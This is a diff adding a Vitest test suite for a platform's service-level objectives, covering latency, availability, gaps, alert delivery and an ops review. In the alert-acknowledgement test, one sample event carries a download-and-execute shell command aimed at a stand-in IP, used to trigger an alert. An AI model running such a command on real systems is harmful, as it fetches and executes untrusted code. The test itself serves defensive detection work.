@@ -1,0 +1,146 @@
+import type { HealthReview, SloDetail, SloStatus } from '@eviltwin/contract'
+import { afterAll, beforeAll, describe, expect, inject, test } from 'vitest'
+import { startTestPlatform, type TestPlatform } from '../../testing/test-platform.js'
+import { until } from '../../testing/until.js'
+
+const MINUTE_MS = 60_000
+
+/** A line that the request log wrote at DEBUG: the raw material that the numbers must agree with. */
+interface LoggedRequest {
+  method: string
+  route: string
+  status: number
+  duration_ms: number
+}
+
+describe.each(inject('postgresServers'))('SLOs on $version', (server) => {
+  let api: TestPlatform
+  let token: string
+  const clock = { ahead: 0 }
+  const now = () => Date.now() + clock.ahead
+  beforeAll(async () => {
+    api = await startTestPlatform(server, { now })
+    token = await api.login()
+  })
+  afterAll(() => api.close())
+
+  const list = async (from = api, as = token) => {
+    const response = await from.call('/slos', { as })
+    return ((await response.json()) as { items: SloStatus[] }).items
+  }
+  const find = async (id: string, from = api, as = token) =>
+    (await (await from.call(`/slos/${id}`, { as })).json()) as SloDetail
+  const event = (n: number) =>
+    JSON.stringify({ source_ip: '203.0.113.9', session: 's', n, occurred_at: new Date(now()).toISOString() })
+  const requests = (method: string, route: string) =>
+    api.logged.filter(
+      (line) =>
+        line['message'] === 'Request completed' && line['method'] === method && line['route'] === route,
+    ) as unknown as LoggedRequest[]
+
+  test('the eight objectives are there, and say nothing where nothing happened', async () => {
+    const slos = await list()
+    expect(slos).toHaveLength(8)
+    expect(slos.find(({ id }) => id === 'session-query-latency')).toMatchObject({
+      state: 'no_data',
+      compliance: null,
+    })
+  })
+
+  test('numbers equal those recomputed from the raw request log', async () => {
+    for (let n = 0; n < 60; n += 1) await api.send(event(n))
+    for (let n = 0; n < 5; n += 1) await api.send('{')
+    for (let n = 0; n < 20; n += 1) await api.call('/sessions', { as: token })
+    await api.call('/sessions', { as: 'nobody' })
+    await until(() => requests('POST', '/log').length >= 65 && requests('GET', '/sessions').length >= 21)
+    for (const [id, method, route, limit] of [
+      ['ingest-latency', 'POST', '/log', 500],
+      ['session-query-latency', 'GET', '/sessions', 1000],
+      ['auth-latency', 'POST', '/auth/login', 300],
+    ] as const) {
+      const slo = await find(id)
+      const durations = requests(method, route)
+        .map(({ duration_ms }) => duration_ms)
+        .sort((a, b) => a - b)
+      expect([id, slo.measured]).toEqual([
+        id,
+        { good: durations.filter((duration) => duration < limit).length, total: durations.length },
+      ])
+      // The sketch gives a value within 1 % of the one at the rank floor(q * (n - 1)).
+      const exact = durations[Math.floor(0.95 * (durations.length - 1))] ?? 0
+      expect(Math.abs((slo.percentile?.value_ms ?? 0) - exact)).toBeLessThanOrEqual(0.0101 * exact + 0.001)
+    }
+    const ingest = await find('ingest-availability')
+    const served = requests('POST', '/log')
+    expect(ingest.measured).toEqual({
+      good: served.filter(({ status }) => status < 500 && status !== 429).length,
+      total: served.length,
+    })
+    expect(ingest.openslo).toContain('apiVersion: openslo/v1')
+    expect(ingest.history).toHaveLength(7 * 24 + 1)
+  })
+
+  test('replicas add up, and a restart forgets nothing', async () => {
+    const before = (await find('ingest-latency')).measured.total
+    const replica = await startTestPlatform(server, { now, beside: api })
+    const as = await replica.login()
+    for (let n = 0; n < 7; n += 1) await replica.send(event(1000 + n))
+    await until(async () => (await find('ingest-latency', replica, as)).measured.total === before + 7)
+    await replica.close()
+    expect((await find('ingest-latency')).measured.total).toBe(before + 7)
+  })
+
+  test('minutes without a platform are gaps, and count against availability', async () => {
+    const { databaseUrl } = api
+    expect(databaseUrl).toBeTruthy()
+    const other = await startTestPlatform(server, { now })
+    for (let n = 0; n < 10; n += 1) await other.send(event(n))
+    const as = await other.login()
+    await find('ingest-availability', other, as)
+    await other.platform.close()
+    clock.ahead += 30 * MINUTE_MS
+    const restarted = await startTestPlatform(server, { now, beside: other })
+    const slo = await find('ingest-availability', restarted, await restarted.login())
+    expect(slo.gaps.minutes).toBeGreaterThanOrEqual(28)
+    expect(slo.gaps.minutes).toBeLessThanOrEqual(30)
+    expect(slo.gaps.assumed_bad).toBeGreaterThan(0)
+    expect(slo.state).toBe('breached')
+    await restarted.close()
+    clock.ahead -= 30 * MINUTE_MS
+  })
+
+  test('an alert that a client acknowledges is measured to its acknowledgement', async () => {
+    const { openFeed } = await import('../../testing/test-feed.js')
+    const feed = await openFeed(api, token)
+    await api.send(
+      JSON.stringify({
+        source_ip: '203.0.113.77',
+        session: 'x',
+        occurred_at: new Date(now()).toISOString(),
+        command: 'wget http://192.0.2.1/x; chmod 777 x; ./x',
+      }),
+    )
+    const [alert] = await feed.until(1)
+    feed.acknowledge(alert?.id ?? '')
+    const slo = await until(async () => {
+      const found = await find('alert-delivery-delay')
+      return found.measured.total > 0 && found
+    })
+    expect(slo).toMatchObject({ state: 'met', measured: { good: 1, total: 1 } })
+    await feed.close()
+  })
+
+  test('the review answers the checklist, in JSON and Markdown', async () => {
+    const review = (await (await api.call('/ops/review', { as: token })).json()) as HealthReview
+    expect(review.ingest_latency.requests.this_week).toBeGreaterThanOrEqual(65)
+    expect(review.slos).toHaveLength(8)
+    expect(review.ingest_latency.p95_ms.last_week).toBeNull()
+    const response = await api.call('/ops/review?format=markdown', { as: token })
+    expect(response.headers.get('content-type')).toContain('text/markdown')
+    expect(await response.text()).toContain('## Has ingest latency trended upward?')
+  })
+
+  test('an objective that is not there is a 404', async () => {
+    expect((await api.call('/slos/nothing', { as: token })).status).toBe(404)
+  })
+})
